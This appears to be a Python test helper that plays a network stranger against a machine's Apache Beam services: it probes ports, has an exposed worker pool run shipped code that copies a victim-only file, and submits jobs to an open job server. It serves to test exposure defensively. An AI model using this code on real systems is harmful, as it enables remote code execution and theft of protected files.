"""What a stranger on the network sends to a port of this machine, by Beam's own clients: run by tests/network.py.

python -m tests.attacks STRANGER VICTIM HOW ...

reach PORT ...                     prints the ports that answer
pool PORT FILE COPY                has a worker of that pool copy a file that only the victim may read
job PORT ARTIFACTS KIND CONFIG     sends a job to that job server, whose workers are of that kind
"""

from __future__ import annotations

import json
import socket
import sys

_PATIENCE = 2  # seconds


def reach(victim: str, ports: list[str]) -> None:
    found = []
    for port in map(int, ports):
        try:
            socket.create_connection((victim, port), timeout=_PATIENCE).close()
            found.append(port)
        except OSError:
            pass
    print(json.dumps(found))


def pool(stranger: str, victim: str, port: str, file: str, copy: str) -> None:
    """A runner of the stranger, whose worker is one of the victim's pool."""
    import apache_beam as beam
    from apache_beam.runners.portability.fn_api_runner import FnApiRunner, worker_handlers
    from apache_beam.transforms.environments import ExternalEnvironment

    worker_handlers.ExternalWorkerHandler.host_from_worker = lambda self: stranger
    environment = ExternalEnvironment(f"{victim}:{port}")
    with beam.Pipeline(runner=FnApiRunner(default_environment=environment)) as pipeline:
        _ = pipeline | beam.Create([(file, copy)]) | beam.MapTuple(_taker())


def job(victim: str, port: str, artifacts: str, kind: str, config: str) -> None:
    """A job of the stranger's, on the victim's cluster."""
    import apache_beam as beam
    from apache_beam.options.pipeline_options import PipelineOptions

    flags = [f"--job_endpoint={victim}:{port}", f"--environment_type={kind}", f"--environment_config={config}"]
    flags += [f"--artifact_endpoint={victim}:{artifacts}", "--experiments=disable_logging_submission_environment"]
    with beam.Pipeline("PortableRunner", PipelineOptions(flags)) as pipeline:
        _ = pipeline | beam.Create([1]) | beam.Map(lambda one: one)


def _taker():  # type: ignore[no-untyped-def]  # made here, so that it travels whole: the victim has no tests
    def take(file: str, copy: str) -> None:
        import os

        with open(file, "rb") as read, open(copy, "wb") as written:
            written.write(read.read() + f"\nby process {os.getpid()}".encode())

    return take


if __name__ == "__main__":
    stranger, victim, how, *words = sys.argv[1:]
    if how == "reach":
        reach(victim, words)
    elif how == "pool":
        pool(stranger, victim, *words)
    else:
        job(victim, *words)
